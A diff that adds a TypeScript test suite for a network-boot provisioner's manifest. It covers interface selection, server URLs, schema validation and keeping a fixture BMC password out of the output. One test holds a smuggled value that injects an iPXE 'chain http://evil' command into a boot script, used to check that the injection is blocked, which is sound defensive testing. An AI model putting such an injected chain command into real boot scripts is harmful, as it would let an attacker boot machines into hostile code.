@@ -1,0 +1,67 @@
+import { Ajv } from 'ajv'
+import formats from 'ajv-formats'
+import * as assert from 'uvu/assert'
+import { bootManifest, bootNetwork, serverUrls } from '../../../provisioner/boot/manifest.ts'
+import { leaveScript } from '../../../provisioner/boot/script.ts'
+import type { Interface } from '../../../provisioner/node/interfaces.ts'
+import bootSchema from '../../../schema/boot.schema.json' with { type: 'json' }
+import nodeSchema from '../../../schema/node.schema.json' with { type: 'json' }
+import { suite } from '../../suite.ts'
+import { makeFixture } from '../fixture.ts'
+
+const test = suite('boot manifest')
+
+const card = (name: string, more: Partial<Interface> = {}): Interface => ({ name, type: 'ethernet', ...more })
+const names = (...interfaces: Interface[]) => bootNetwork(interfaces).map(({ name }) => name)
+
+test('only what leads to the provisioner is made in the initramfs', () => {
+  const boot = card('eno1', { boot: true, mac: '02:00:00:00:00:01' })
+  const bond: Interface = { name: 'bond0', type: 'bond', members: ['eno1', 'eno2'] }
+  const vlan: Interface = { name: 'bond0.5', type: 'vlan', parent: 'bond0', vlan: 5 }
+  const ib: Interface = { name: 'ib0', type: 'infiniband' }
+  assert.equal(names(boot, card('eno3'), ib), ['eno1'])
+  assert.equal(names(boot, card('eno2'), card('eno3'), ib, bond, vlan), ['eno1', 'eno2', 'bond0', 'bond0.5'])
+  assert.equal(names(boot, card('eno2'), { ...bond, onboot: false }), ['eno1'])
+})
+
+test('addresses of both families make URLs', () => {
+  assert.is(serverUrls({ server: '10.0.0.1' }).https, 'https://10.0.0.1:9874')
+  assert.is(serverUrls({ server: 'fd00::1', http_port: 80 }).http, 'http://[fd00::1]:80')
+})
+
+test('it is what its schema says, and holds no password', async () => {
+  const fixture = await makeFixture({
+    'inventory/host_vars/n01.yml':
+      'node_bmc: {type: ipmi, address: 10.3.0.1, user: admin, password: hunter2}\nnode_root: {type: tmpfs, size: 2G}\nnode_mkdisk: {wipe: true}\nprelude_boot: {watchdog: 60, shell: true}\n',
+  })
+  try {
+    const node = fixture.site.nodes.get('n01')!
+    const { image, site } = fixture
+    const manifest = bootManifest({
+      node,
+      image,
+      settings: site.settings,
+      ca: 'CA',
+      boot: 'b',
+      token: 't',
+      time: new Date(),
+    })
+    const ajv = new Ajv({ allowUnionTypes: true })
+    formats.default(ajv)
+    ajv.addSchema(nodeSchema, 'node.schema.json')
+    const isManifest = ajv.compile(bootSchema)
+    assert.ok(isManifest(JSON.parse(JSON.stringify(manifest))), JSON.stringify(isManifest.errors))
+    assert.equal(manifest.root, { type: 'tmpfs', size: '2G' })
+    assert.is(manifest.watchdog, 60)
+    assert.equal(manifest.retry, { shell: true })
+    assert.not.match(JSON.stringify(manifest), 'hunter2')
+  } finally {
+    await fixture.remove()
+  }
+})
+
+test('a message cannot bring a command into a script', () => {
+  assert.not.match(leaveScript('x\nchain http://evil || boot'), /\nchain|\|\|/)
+})
+
+test.run()
